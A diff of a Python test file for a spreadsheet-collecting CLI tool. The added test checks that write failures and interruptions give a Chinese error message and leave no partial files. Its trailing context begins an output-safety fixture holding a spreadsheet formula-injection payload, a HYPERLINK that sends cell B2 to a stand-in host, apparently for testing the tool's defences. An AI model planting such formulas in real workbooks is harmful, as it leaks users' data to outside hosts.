@@ -170,6 +170,38 @@ def test_cli_collect_exit_codes_and_json(mixed_folder, tmp_path):
     assert res.exit_code == 2 and ".xlsx" in res.output
 
 
+def test_output_that_cannot_be_written_gives_a_chinese_message_and_no_noise(mixed_folder, tmp_path, monkeypatch,
+                                                                             capfd):
+    import gc
+    import sys
+
+    from evaltool.core import fileio
+
+    unraisable = []
+    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
+
+    def busy(*args):
+        raise PermissionError(13, "Permission denied")  # 汇总.xlsx open in Excel on Windows
+
+    monkeypatch.setattr(fileio.os, "replace", busy)
+    res = CliRunner().invoke(main, ["collect", str(mixed_folder), "-o", str(tmp_path / "汇总.xlsx"), "-j", "1"])
+    gc.collect()  # the unfinished workbook's sheet streams are closed, not left to complain
+    assert res.exit_code == 2 and "无法写入 汇总.xlsx" in res.output and "关闭该文件" in res.output
+    assert not unraisable and "Exception ignored" not in capfd.readouterr().err
+    assert not list(tmp_path.iterdir())  # no partial output, no temporary file
+    # Stopped (Ctrl+C) just before the workbook is written: nothing left behind, no noise either.
+
+    def interrupt(done, total, file):
+        if file == "正在写入汇总工作簿……":
+            raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        collect([mixed_folder], tmp_path / "汇总.xlsx", workers=1, progress=interrupt)
+    gc.collect()
+    assert not unraisable and "Exception ignored" not in capfd.readouterr().err
+    assert not list(tmp_path.iterdir())
+
+
 # ---- output safety -----------------------------------------------------------------------------
 FORMULAS = {
     "项目名称": '=HYPERLINK("http://example.invalid/?d="&B2,"点击")',
